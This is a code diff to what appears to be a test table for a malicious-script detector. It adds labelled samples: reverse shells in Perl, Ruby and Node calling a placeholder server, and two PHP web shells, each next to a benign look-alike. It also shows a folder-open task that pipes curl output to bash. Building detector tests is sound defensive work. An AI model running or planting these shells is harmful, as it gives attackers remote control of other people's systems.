@@ -123,6 +123,39 @@ const odc = (content: string): Uint8Array =>
 const RUN = 'new ActiveXObject("WScript.Shell").Run("calc")'
 const ROWS: readonly Row[] = [
   [
+    'shell for another computer, in Perl, Ruby and Lua',
+    'Script.RemoteControl',
+    Buffer.from(
+      `use Socket;\nsocket(S,PF_INET,SOCK_STREAM,6);\nconnect(S,sockaddr_in(4444,inet_aton("${SERVER}")));\nopen(STDIN,">&S");exec("/bin/sh -i");\n`,
+    ),
+    Buffer.from(
+      `require 'socket'\nc = TCPSocket.new('${SERVER}', 4444)\nwhile (line = c.gets)\n  IO.popen(line, 'r') { |io| c.print io.read }\nend\n`,
+    ),
+    Buffer.from(
+      "require 'socket'\nserver = TCPServer.new(2000)\nclient = server.accept\nclient.puts Time.now\nclient.close\n",
+    ),
+  ],
+  [
+    'command of a visitor, in PHP',
+    'Script.RemoteControl',
+    Buffer.from("<?php\nif (isset($_REQUEST['c'])) { system($_REQUEST['c']); }\n"),
+    Buffer.from('<?php @eval(base64_decode($_POST["x"])); ?>'),
+    Buffer.from("<?php\n$name = htmlspecialchars($_POST['name']);\nexec('convert a.png b.jpg');\necho $name;\n"),
+  ],
+  [
+    'shell for another computer, in Node',
+    'Script.RemoteControl',
+    Buffer.from(
+      `const net = require('net'), cp = require('child_process')\nconst sh = cp.spawn('/bin/sh', [])\nconst c = new net.Socket()\nc.connect(4444, '${SERVER}', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })\n`,
+    ),
+    Buffer.from(
+      `const net=require('net');const {exec}=require('child_process');const s=net.connect(443,'${SERVER}');s.on('data',d=>exec(d.toString(),(e,o)=>s.write(o)));\n`,
+    ),
+    Buffer.from(
+      "const net = require('net')\nconst { execSync } = require('child_process')\nnet.createServer((s) => s.pipe(s)).listen(8000)\nexecSync('git status')\n",
+    ),
+  ],
+  [
     'task that runs when a folder is opened',
     'Script.Project',
     file('a/.vscode/tasks.json', onOpening({ command: `curl -s http://${SERVER}/a | bash` })),
